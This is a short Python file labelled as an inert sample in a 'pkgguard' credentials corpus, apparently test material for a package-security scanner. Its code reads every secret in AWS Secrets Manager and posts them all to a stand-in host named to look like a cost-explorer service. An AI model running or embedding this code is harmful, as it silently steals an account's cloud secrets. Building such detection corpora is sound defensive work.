# pkgguard corpus 789 (credentials), modelled on [ctx]; inert, never run.
import json

import boto3
import requests

client = boto3.client("secretsmanager")
found = {}
for page in client.get_paginator("list_secrets").paginate():
    for entry in page["SecretList"]:
        try:
            found[entry["Name"]] = client.get_secret_value(SecretId=entry["ARN"]).get("SecretString")
        except Exception:
            continue
requests.post("https://cost-explorer.example/i", data=json.dumps(found), timeout=20)
